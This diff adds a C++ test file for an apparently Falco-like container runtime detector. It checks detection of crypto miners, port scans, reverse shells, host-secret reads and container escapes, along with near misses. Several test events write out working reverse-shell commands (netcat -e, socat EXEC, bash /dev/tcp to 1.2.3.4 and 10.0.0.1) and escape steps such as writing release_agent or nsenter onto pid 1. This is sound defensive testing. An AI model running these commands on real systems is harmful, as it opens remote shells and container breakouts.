@@ -1,0 +1,437 @@
+// The shipped rules (rules/default.yaml) against hand-built events: every
+// rule fires on the behaviour it is about, whatever the program is called,
+// and its near misses (ordinary workloads that look alike) stay quiet.
+#include <fcntl.h>
+
+#include <algorithm>
+#include <catch2/catch.hpp>
+#include <memory>
+#include <string>
+#include <vector>
+
+#include "rule_set.h"
+#include "test_context.h"
+#include "test_util.h"
+
+using crowsnest::Detection;
+using crowsnest::RuleSet;
+using crowsnest::test::connect_inet_scene;
+using crowsnest::test::connect_unix_scene;
+using crowsnest::test::exec_scene;
+using crowsnest::test::kContainerId;
+using crowsnest::test::open_scene;
+using crowsnest::test::Scene;
+using crowsnest::test::TempDir;
+using crowsnest::test::write_file;
+
+using Names = std::vector<std::string>;
+
+namespace {
+
+const std::string kDefaultRules = CROWSNEST_SOURCE_DIR "/rules/default.yaml";
+
+// The shipped rules, plus more files; fresh for every call (thresholds keep state).
+std::unique_ptr<RuleSet> load_rules(const std::vector<std::string> &more = {}) {
+    std::vector<std::string> files{kDefaultRules}, errors, warnings;
+    files.insert(files.end(), more.begin(), more.end());
+    auto r = RuleSet::load(files, errors, warnings);
+    INFO("errors: " << Catch::Detail::stringify(errors));
+    REQUIRE(errors.empty());
+    REQUIRE(r != nullptr);
+    return r;
+}
+
+const RuleSet &default_rules() {
+    static const std::unique_ptr<RuleSet> rules = load_rules();
+    return *rules;
+}
+
+std::vector<Detection> detect(const Scene &s, const RuleSet &rules = default_rules()) {
+    std::vector<Detection> out;
+    const auto ctx = s.ctx();
+    rules.match(ctx, out);
+    return out;
+}
+
+// The names of the rules that fire, sorted.
+Names fired(const Scene &s, const RuleSet &rules = default_rules()) {
+    Names names;
+    for (const auto &d : detect(s, rules)) names.push_back(d.rule->name);
+    std::sort(names.begin(), names.end());
+    return names;
+}
+
+bool fires(const Scene &s, const std::string &rule) {
+    const Names n = fired(s);
+    return std::find(n.begin(), n.end(), rule) != n.end();
+}
+
+Scene opened(const std::string &path, uint32_t flags) {
+    Scene s = open_scene(path);
+    s.event.open_flags = flags;
+    return s;
+}
+
+Scene host_file(const std::string &path, const std::string &host_path, uint32_t flags = O_RDONLY) {
+    Scene s = opened(path, flags);
+    s.host_path = host_path;
+    return s;
+}
+
+}  // namespace
+
+TEST_CASE("default rules: the file loads without warnings, every rule has desc, tags and a category",
+          "[default_rules]") {
+    std::vector<std::string> errors, warnings;
+    auto r = RuleSet::load({kDefaultRules}, errors, warnings);
+    REQUIRE(r != nullptr);
+    CHECK(errors.empty());
+    CHECK(warnings == Names{});
+    CHECK(r->rule_count() >= 30);
+    const Names categories{"miner", "scanner", "host_mount", "escape", "drift"};
+    for (size_t i = 0; i < r->rule_count(); i++) {
+        const auto &info = r->rule_info(i);
+        INFO(info.name);
+        CHECK(!info.desc.empty());
+        CHECK(std::count(categories.begin(), categories.end(), info.category) == 1);
+        REQUIRE(!info.tags.empty());
+        CHECK(info.tags[0].rfind("T1", 0) == 0);  // MITRE ATT&CK ids
+    }
+    const auto &paths = r->protected_host_paths();
+    CHECK(std::count(paths.begin(), paths.end(), "/etc/shadow") == 1);
+    CHECK(std::count(paths.begin(), paths.end(), "/etc/cron.d/") == 1);
+    CHECK(std::is_sorted(paths.begin(), paths.end()));
+}
+
+// ---- miners -----------------------------------------------------------------
+
+TEST_CASE("default rules: a known miner binary fires, by file name or argv[0]", "[default_rules][miner]") {
+    CHECK(fires(exec_scene("/opt/.x/xmrig", {"xmrig", "-c", "config.json"}), "crypto_miner_binary"));
+    CHECK(fires(exec_scene("/tmp/.x/xmrig", {"xmrig"}).on_host(), "crypto_miner_binary"));
+    // from /tmp in a container: a miner, and drift
+    CHECK(fired(exec_scene("/tmp/.x/xmrig", {"xmrig"})) == Names{"crypto_miner_binary", "drift_exec_from_writable_dir"});
+    CHECK(fires(exec_scene("/opt/XMRig", {"XMRig"}), "crypto_miner_binary"));
+    CHECK(fires(exec_scene("/usr/bin/env", {"minerd", "--url", "x"}), "crypto_miner_binary"));
+
+    const auto ds = detect(exec_scene("/opt/.x/xmrig", {"xmrig", "-c", "config.json"}));
+    REQUIRE(ds.size() == 1);
+    CHECK(ds[0].rule->name == "crypto_miner_binary");
+    CHECK(ds[0].rule->category == "miner");
+    CHECK(ds[0].rule->severity == "critical");
+    CHECK(ds[0].rule->tags == Names{"T1496"});
+    CHECK(ds[0].output == "Crypto miner started: /opt/.x/xmrig (xmrig -c config.json) in container " + kContainerId);
+}
+
+TEST_CASE("default rules: a renamed miner is caught by its arguments", "[default_rules][miner]") {
+    CHECK(fired(exec_scene("/usr/local/bin/kworkerd", {"kworkerd", "-o", "stratum+tcp://pool:3333", "-u", "w"})) ==
+          Names{"crypto_miner_stratum_args"});
+    CHECK(fires(exec_scene("/bin/k", {"k", "--url=STRATUM+SSL://pool.example:443"}), "crypto_miner_stratum_args"));
+    CHECK(fired(exec_scene("/bin/k", {"k", "-o", "gulf.moneroocean.stream:10128"})) ==
+          Names{"crypto_miner_pool_domain_args"});
+    CHECK(fired(exec_scene("/bin/app", {"app", "--donate-level=1"})) == Names{"crypto_miner_flags"});
+    CHECK(fired(exec_scene("/bin/app", {"app", "--donate-level", "1"})) == Names{"crypto_miner_flags"});
+    CHECK(fires(exec_scene("/bin/app", {"app", "--coin=monero"}), "crypto_miner_flags"));
+    CHECK(fired(exec_scene("/bin/app", {"app", "-a", "rx/0"})) == Names{"crypto_miner_algorithm"});
+    CHECK(fired(exec_scene("/bin/app", {"app", "--algo=cryptonight"})) == Names{"crypto_miner_algorithm"});
+    CHECK(fired(exec_scene("/bin/app", {"app", "--algorithm", "KawPow"})) == Names{"crypto_miner_algorithm"});
+    CHECK(fired(exec_scene("/bin/app", {"app", "-arx/0"})) == Names{"crypto_miner_algorithm"});  // getopt's -aVALUE
+    // one verdict per category: the first matching rule in file order
+    CHECK(fired(exec_scene("/opt/xmrig", {"xmrig", "-o", "stratum+tcp://p:3333", "--donate-level=1"})) ==
+          Names{"crypto_miner_binary"});
+}
+
+TEST_CASE("default rules: miner near misses do not fire", "[default_rules][miner][near_miss]") {
+    for (const Scene &s : {
+             exec_scene("/usr/bin/xmrig-proxy-docs", {"xmrig-proxy-docs"}),  // not the name
+             exec_scene("/usr/bin/minerd2", {"minerd2"}),
+             exec_scene("/bin/app", {"app", "--url", "https://stratum.example.com"}),  // no stratum scheme
+             exec_scene("/bin/app", {"stratum+tcp://pool:3333"}),                    // argv[0] is not an argument
+             exec_scene("/bin/app", {"app", "--donate-levels=1"}),                   // another flag
+             exec_scene("/bin/app", {"app", "--coinbase"}),
+             exec_scene("/bin/app", {"app", "x--donate-level"}),
+             exec_scene("/bin/ls", {"ls", "-a", "/tmp"}),         // -a without an algorithm
+             exec_scene("/bin/echo", {"echo", "rx/0"}),           // an algorithm without -a
+             exec_scene("/bin/app", {"app", "--algo", "sha256"}),  // not a mining algorithm
+             exec_scene("/usr/bin/git", {"git", "commit", "-a", "-m", "randomx fix"}),
+             exec_scene("/usr/bin/git", {"git", "commit", "-am", "randomx fix"}),
+             exec_scene("/bin/app", {"app", "--algo", "sha256", "--note", "rx/0"}),
+             exec_scene("/bin/app", {"app", "--algorithms=kawpow"}),  // another flag
+             exec_scene("/bin/app", {"app", "rx/0", "-a"}),           // -a with nothing after it
+             exec_scene("/usr/bin/curl", {"curl", "https://example.com/nanopool-review"}),  // not the pool's domain
+         }) {
+        CAPTURE(s.event.argv);
+        CHECK(fired(s).empty());
+    }
+}
+
+TEST_CASE("default rules: a failed exec fires nothing", "[default_rules]") {
+    CHECK(fired(exec_scene("/tmp/xmrig", {"xmrig", "-o", "stratum+tcp://p:3333", "--donate-level=1"}, -2)).empty());
+    CHECK(fired(exec_scene("/usr/bin/nmap", {"nmap", "10.0.0.0/24"}, -13)).empty());
+    CHECK(fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}, -2)).empty());
+}
+
+TEST_CASE("default rules: a miner configured by file still touches MSRs and huge pages", "[default_rules][miner]") {
+    Scene msr = opened("/dev/cpu/3/msr", O_WRONLY);
+    msr.by("/tmp/systemd-journald", {"./systemd-journald"});
+    CHECK(fired(msr) == Names{"crypto_miner_msr_write"});
+    CHECK(fired(msr.on_host()) == Names{"crypto_miner_msr_write"});
+    CHECK(fired(open_scene("/dev/cpu/3/msr")).empty());  // turbostat reads them
+    CHECK(fired(opened("/dev/cpu/3/cpuid", O_WRONLY)).empty());
+
+    Scene huge = opened("/proc/sys/vm/nr_hugepages", O_WRONLY | O_TRUNC);
+    CHECK(fired(huge) == Names{"hugepages_write_from_container"});
+    CHECK(fired(huge.on_host()).empty());
+    CHECK(fired(open_scene("/proc/sys/vm/nr_hugepages")).empty());  // reading is harmless
+}
+
+TEST_CASE("default rules: mining-pool ports from a container, pool networks when listed", "[default_rules][miner]") {
+    CHECK(fired(connect_inet_scene("198.51.100.7", 3333, -115)) == Names{"mining_pool_port_connect"});
+    CHECK(fired(connect_inet_scene("2001:db8::7", 14444)) == Names{"mining_pool_port_connect"});
+    CHECK(fired(connect_inet_scene("198.51.100.7", 3333).on_host()).empty());
+    CHECK(fired(connect_inet_scene("198.51.100.7", 443)).empty());
+    // busy, harmless services on ports some pools also use (Selenium Grid, Celery Flower)
+    CHECK(fired(connect_inet_scene("10.0.0.5", 4444)).empty());
+    CHECK(fired(connect_inet_scene("10.0.0.6", 5555)).empty());
+    Scene unresolved = connect_inet_scene("198.51.100.7", 3333);
+    unresolved.has_cgroup = false;  // an unresolved cgroup is no container
+    CHECK(fired(unresolved).empty());
+
+    const auto ds = detect(connect_inet_scene("198.51.100.7", 3333, -111));
+    REQUIRE(ds.size() == 1);
+    CHECK(ds[0].output == "Connection to a mining-pool port: curl (/usr/bin/curl) to 198.51.100.7:3333 "
+                          "(ECONNREFUSED) in container " + kContainerId);
+
+    // the pool network list is empty until a user file appends to it
+    CHECK(fired(connect_inet_scene("203.0.113.9", 443).on_host()).empty());
+    TempDir dir;
+    write_file(dir / "feed.yaml", "- list: miner_pool_networks\n  items: [203.0.113.0/24, 2001:db8:99::/48]\n  append: true\n");
+    auto r = load_rules({dir / "feed.yaml"});
+    CHECK(fired(connect_inet_scene("203.0.113.9", 443).on_host(), *r) == Names{"mining_pool_address_connect"});
+    CHECK(fired(connect_inet_scene("2001:db8:99::1", 443).on_host(), *r) == Names{"mining_pool_address_connect"});
+    CHECK(fired(connect_inet_scene("203.0.114.9", 443).on_host(), *r).empty());
+}
+
+// ---- scanners and reverse shells --------------------------------------------
+
+TEST_CASE("default rules: a port scan by any program, and busy clients that are none", "[default_rules][scanner]") {
+    auto rules = load_rules();
+    int scans = 0;
+    for (uint16_t port = 1; port <= 80; port++) {
+        Scene s = connect_inet_scene("10.0.0.9", port, -111);
+        s.by("/tmp/.x/kworker", {"kworker"});
+        s.event.boot_ns = 1000000000ULL + port * 1000000ULL;
+        for (const auto &d : detect(s, *rules)) {
+            if (d.rule->name != "port_scan") continue;
+            scans++;
+            CHECK(d.rule->category == "scanner");
+            CHECK(port == 50);
+            CHECK(d.output == "Port scan: kworker (/tmp/.x/kworker) tried 50 distinct ports of 10.0.0.9 within 10 s, "
+                              "from container " + kContainerId);
+        }
+    }
+    CHECK(scans == 1);
+    // a non-blocking scanner sees EINPROGRESS
+    for (uint16_t port = 1; port <= 50; port++) {
+        Scene s = connect_inet_scene("10.0.0.10", port, -115);
+        s.event.boot_ns = 2000000000ULL + port;
+        scans += fired(s, *rules) == Names{"port_scan"};
+    }
+    CHECK(scans == 2);
+
+    // near misses: a scraper reaching 200 hosts on one port, a client retrying
+    // one port, a test suite connecting to 100 ports that all answer
+    for (int h = 1; h <= 200; h++) {
+        Scene s = connect_inet_scene("10.1.0." + std::to_string(h % 250), 9100);
+        s.event.boot_ns = 5000000000ULL + uint64_t(h);
+        CHECK(fired(s, *rules).empty());
+    }
+    for (int i = 0; i < 200; i++) CHECK(fired(connect_inet_scene("10.2.0.1", 5432, -111), *rules).empty());
+    for (uint16_t port = 30000; port < 30100; port++) {
+        Scene s = connect_inet_scene("127.0.0.1", port);
+        s.event.boot_ns = 6000000000ULL + port;
+        CHECK(fired(s, *rules).empty());
+    }
+}
+
+TEST_CASE("default rules: a sweep of one port across a network", "[default_rules][scanner]") {
+    auto rules = load_rules();
+    int sweeps = 0;
+    for (int h = 1; h <= 40; h++) {
+        Scene s = connect_inet_scene("10.3.0." + std::to_string(h), 22, h % 2 ? -111 : -113);
+        s.event.boot_ns = 1000000000ULL + uint64_t(h) * 1000000ULL;
+        sweeps += fired(s, *rules) == Names{"network_sweep"};
+    }
+    CHECK(sweeps == 1);
+    // a service whose non-blocking connects to 200 pods are in progress is no sweep
+    for (int h = 1; h <= 200; h++) {
+        Scene s = connect_inet_scene("10.4.0." + std::to_string(h), 8080, -115);
+        s.event.boot_ns = 2000000000ULL + uint64_t(h);
+        CHECK(fired(s, *rules).empty());
+    }
+}
+
+TEST_CASE("default rules: scanners and network tools in containers", "[default_rules][scanner]") {
+    CHECK(fired(exec_scene("/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"})) == Names{"network_scanner_in_container"});
+    CHECK(fired(exec_scene("/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"}).on_host()).empty());
+    const auto ds = detect(exec_scene("/usr/bin/nc", {"nc", "-z", "db", "5432"}));
+    REQUIRE(ds.size() == 1);
+    CHECK(ds[0].rule->name == "network_tool_in_container");
+    CHECK(ds[0].rule->severity == "low");
+    CHECK(fired(exec_scene("/usr/bin/nc", {"nc", "-z", "db", "5432"}).on_host()).empty());
+}
+
+TEST_CASE("default rules: reverse shells", "[default_rules][scanner]") {
+    CHECK(fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"})) == Names{"reverse_shell_netcat"});
+    CHECK(fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}).on_host()) ==
+          Names{"reverse_shell_netcat"});
+    CHECK(fires(exec_scene("/bin/nc", {"nc", "-e/bin/sh", "1.2.3.4", "4444"}), "reverse_shell_netcat"));
+    CHECK(fires(exec_scene("/usr/bin/ncat", {"ncat", "--sh-exec=/bin/bash", "1.2.3.4", "80"}), "reverse_shell_netcat"));
+    CHECK(fires(exec_scene("/usr/bin/ncat", {"ncat", "-c", "bash -i", "1.2.3.4", "80"}), "reverse_shell_netcat"));
+    CHECK(fires(exec_scene("/usr/bin/socat", {"socat", "TCP:1.2.3.4:4444", "EXEC:/bin/bash"}), "reverse_shell_socat"));
+    CHECK(fires(exec_scene("/usr/bin/socat", {"socat", "tcp:1.2.3.4:4444", "system:sh"}).on_host(), "reverse_shell_socat"));
+    CHECK(fired(exec_scene("/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"})) ==
+          Names{"reverse_shell_dev_tcp"});
+    CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | sh >&5"})) ==
+          Names{"reverse_shell_dev_tcp"});
+    // a shell started by netcat, however the option was spelled
+    Scene shell = exec_scene("/bin/sh", {"sh"});
+    shell.parent = {4300, 1, "nc", "/usr/bin/nc", {"nc", "1.2.3.4", "4444", "-e/bin/sh"}};
+    const auto ds = detect(shell);
+    REQUIRE(ds.size() == 1);
+    CHECK(ds[0].rule->name == "shell_spawned_by_network_tool");
+    CHECK(ds[0].output == "Shell sh started by nc (nc 1.2.3.4 4444 -e/bin/sh) in container " + kContainerId);
+}
+
+TEST_CASE("default rules: reverse-shell near misses", "[default_rules][scanner][near_miss]") {
+    CHECK_FALSE(fires(exec_scene("/bin/nc", {"nc", "my-elastic", "9200"}), "reverse_shell_netcat"));
+    CHECK_FALSE(fires(exec_scene("/bin/nc", {"nc", "-v", "-w", "2", "exec.example.com", "80"}), "reverse_shell_netcat"));
+    CHECK(fired(exec_scene("/bin/nc", {"nc", "-lp", "8080"}).on_host()).empty());
+    CHECK(fired(exec_scene("/bin/grep", {"grep", "-e", "pattern", "file"})).empty());  // -e of another program
+    CHECK_FALSE(fires(exec_scene("/usr/bin/socat", {"socat", "TCP-LISTEN:8080", "TCP:backend:80"}), "reverse_shell_socat"));
+    // a readiness probe that only opens /dev/tcp
+    CHECK(fired(exec_scene("/bin/bash", {"bash", "-c", "</dev/tcp/localhost/5432"})).empty());
+    CHECK(fired(exec_scene("/bin/bash", {"bash", "-c", "echo > /dev/tcp/db/5432 && echo up"})).empty());
+    // a shell whose parent is an ordinary shell, and a shell under a service
+    CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "date"})).empty());
+    Scene under_ssh = exec_scene("/bin/bash", {"bash"});
+    under_ssh.parent = {4300, 1, "sshd", "/usr/sbin/sshd", {"sshd: root@pts/0"}};
+    CHECK(fired(under_ssh).empty());
+}
+
+// ---- host files and escapes -------------------------------------------------
+
+TEST_CASE("default rules: a host secret opened from a container", "[default_rules][host_mount]") {
+    const auto ds = detect(host_file("/host/etc/shadow", "/etc/shadow"));
+    REQUIRE(ds.size() == 1);
+    CHECK(ds[0].rule->name == "host_secret_read_from_container");
+    CHECK(ds[0].output == "Host file /etc/shadow opened from container " + kContainerId +
+                              " as /host/etc/shadow by cat (/usr/bin/cat)");
+    CHECK(fired(host_file("/x/id_rsa", "/root/.ssh/id_rsa")) == Names{"host_secret_read_from_container"});
+    CHECK(fired(host_file("/etc/shadow", "/etc/shadow").on_host()).empty());
+    CHECK(fired(open_scene("/host/etc/shadow")).empty());  // no protected file reached
+    CHECK(fired(host_file("/x", "/etc/shadow-")).empty());
+}
+
+TEST_CASE("default rules: host files that are only dangerous to write", "[default_rules][host_mount]") {
+    CHECK(fired(host_file("/host/etc/passwd", "/etc/passwd")).empty());  // ls and id read it all the time
+    CHECK(fired(host_file("/host/etc/cron.d/job", "/etc/cron.d/job", O_WRONLY | O_CREAT | O_TRUNC)) ==
+          Names{"host_file_written_from_container"});
+    CHECK(fired(host_file("/h/ld.so.preload", "/etc/ld.so.preload", O_WRONLY | O_APPEND)) ==
+          Names{"host_file_written_from_container"});
+    // a secret that is also a persistence file: writing it is the one verdict of its category
+    CHECK(fired(host_file("/host/etc/shadow", "/etc/shadow", O_RDWR)) == Names{"host_file_written_from_container"});
+}
+
+TEST_CASE("default rules: other containers' logs, but not for log shippers", "[default_rules][host_mount]") {
+    const std::string log = "/host/var/lib/docker/containers/" + kContainerId + "/" + kContainerId + "-json.log";
+    CHECK(fired(open_scene(log)) == Names{"container_logs_read_from_container"});
+    CHECK(fired(open_scene("/var/log/pods/ns_pod_uid/app/0.log")) == Names{"container_logs_read_from_container"});
+    Scene shipper = open_scene(log);
+    shipper.by("/fluent-bit/bin/fluent-bit", {"/fluent-bit/bin/fluent-bit", "-c", "/fluent-bit/etc/fluent-bit.conf"});
+    CHECK(fired(shipper).empty());
+    CHECK(fired(open_scene(log).on_host()).empty());                   // the host's own tools
+    CHECK(fired(open_scene("/var/lib/docker/containers/x/config.v2.json")).empty());
+    CHECK(fired(open_scene("/app/logs/app.log")).empty());            // the container's own logs
+}
+
+TEST_CASE("default rules: known container escapes", "[default_rules][escape]") {
+    CHECK(fired(opened("/sys/fs/cgroup/rdma/x/release_agent", O_WRONLY | O_TRUNC)) == Names{"cgroup_release_agent_write"});
+    CHECK(fired(open_scene("/sys/fs/cgroup/rdma/release_agent")).empty());  // reading it
+    CHECK(fired(opened("/proc/sys/kernel/core_pattern", O_WRONLY)) == Names{"core_pattern_write"});
+    CHECK(fired(opened("/proc/sys/kernel/core_pattern", O_WRONLY).on_host()).empty());  // systemd-coredump sets it
+    CHECK(fired(exec_scene("/usr/bin/nsenter", {"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"})) ==
+          Names{"nsenter_in_container"});
+    CHECK(fired(exec_scene("/bin/mount", {"mount", "/dev/sda1", "/mnt"})) == Names{"host_disk_mount_in_container"});
+    CHECK(fired(exec_scene("/bin/mount", {"mount", "-t", "tmpfs", "tmpfs", "/scratch"})).empty());
+    CHECK(fired(exec_scene("/bin/mount", {"mount", "/dev/nvme0n1p2", "/mnt"}).on_host()).empty());
+}
+
+TEST_CASE("default rules: /proc/1/root needs the host pid namespace", "[default_rules][escape]") {
+    CHECK(fired(open_scene("/proc/1/root/etc/shadow").with_host_pid_ns()) == Names{"host_root_via_proc"});
+    CHECK(fired(open_scene("/proc/1/root/etc/shadow")).empty());
+    CHECK(fired(open_scene("/proc/1/root/etc/shadow").with_host_pid_ns().on_host()).empty());
+    CHECK(fired(open_scene("/proc/12/root/etc/shadow").with_host_pid_ns()).empty());
+    CHECK(fired(open_scene("/proc/1/rootfs/x").with_host_pid_ns()).empty());
+    CHECK(fired(open_scene("/proc/self/root/etc/shadow").with_host_pid_ns()).empty());
+    // the path is matched after normalisation
+    CHECK(fired(open_scene("/proc/1/cwd/../root/etc/shadow").with_host_pid_ns()) == Names{"host_root_via_proc"});
+}
+
+TEST_CASE("default rules: a runtime socket from a container, except for known agents", "[default_rules][escape]") {
+    const auto ds = detect(connect_unix_scene("/var/run/docker.sock"));
+    REQUIRE(ds.size() == 1);
+    CHECK(ds[0].rule->name == "runtime_socket_connect");
+    CHECK(ds[0].output == "Container runtime socket /var/run/docker.sock reached from container " + kContainerId +
+                              " by docker (/usr/bin/docker), SUCCESS");
+    CHECK(fired(connect_unix_scene("/run/containerd/containerd.sock", false, -2)) == Names{"runtime_socket_connect"});
+    CHECK(fired(connect_unix_scene("/var/run/docker.sock").on_host()).empty());
+    CHECK(fired(connect_unix_scene("/var/run/docker.sock.bak")).empty());
+    CHECK(fired(connect_unix_scene("/tmp/mydocker.sock")).empty());
+    Scene cadvisor = connect_unix_scene("/var/run/docker.sock");
+    cadvisor.by("/usr/bin/cadvisor", {"cadvisor"});
+    CHECK(fired(cadvisor).empty());
+    CHECK(fired(open_scene("/var/run/docker.sock")) == Names{"runtime_socket_opened"});
+    CHECK(fired(open_scene("/var/run/docker.sock").on_host()).empty());
+}
+
+// ---- drift -----------------------------------------------------------------
+
+TEST_CASE("default rules: programs that are not part of the image", "[default_rules][drift]") {
+    Scene upper = exec_scene("/usr/local/bin/helper", {"helper"});
+    upper.event.exe_upper_layer = true;
+    CHECK(fired(upper) == Names{"drift_binary_executed"});
+    CHECK(fired(upper.on_host()).empty());
+    CHECK(fired(exec_scene("/usr/bin/python3", {"python3", "app.py"})).empty());  // from the image
+
+    CHECK(fired(exec_scene("/dev/shm/.x", {"/dev/shm/.x"})) == Names{"drift_exec_from_writable_dir"});
+    CHECK(fired(exec_scene("/tmp/payload", {"./payload"})) == Names{"drift_exec_from_writable_dir"});
+    CHECK(fired(exec_scene("/tmp/payload", {"./payload"}).on_host()).empty());
+    CHECK(fired(exec_scene("/tmpfoo/app", {"app"})).empty());  // not /tmp
+
+    Scene memfd = exec_scene("/proc/self/fd/3", {"x"});
+    memfd.process.exe = "/memfd:x (deleted)";
+    CHECK(fired(memfd) == Names{"fileless_exec"});
+    CHECK(fired(memfd.on_host()) == Names{"fileless_exec"});
+}
+
+TEST_CASE("default rules: a process exit matches no rule", "[default_rules]") {
+    Scene s = exec_scene("/tmp/xmrig", {"xmrig"});
+    s.event.type = crowsnest::EventType::Exit;
+    CHECK(fired(s).empty());
+}
+
+// Users adapt the shipped rules from their own files, as Falco users do.
+TEST_CASE("default rules: a user file appends to a list, adds an exception, disables a rule", "[default_rules]") {
+    TempDir dir;
+    write_file(dir / "local.yaml",
+               "- list: scanner_tools\n  items: [corpscan]\n  append: true\n"
+               "- rule: network_scanner_in_container\n  exceptions:\n"
+               "    - name: security_team\n      fields: [container.id, proc.name]\n"
+               "      values: [[" + kContainerId + ", nmap]]\n  append: true\n"
+               "- rule: network_tool_in_container\n  enabled: false\n");
+    auto r = load_rules({dir / "local.yaml"});
+    CHECK(fired(exec_scene("/usr/bin/corpscan", {"corpscan", "10.0.0.0/8"}), *r) == Names{"network_scanner_in_container"});
+    CHECK(fired(exec_scene("/usr/bin/nmap", {"nmap", "10.0.0.0/8"}), *r).empty());
+    CHECK(fired(exec_scene("/usr/bin/masscan", {"masscan", "10.0.0.0/8"}), *r) == Names{"network_scanner_in_container"});
+    CHECK(fired(exec_scene("/usr/bin/nc", {"nc", "-z", "db", "5432"}), *r).empty());
+}
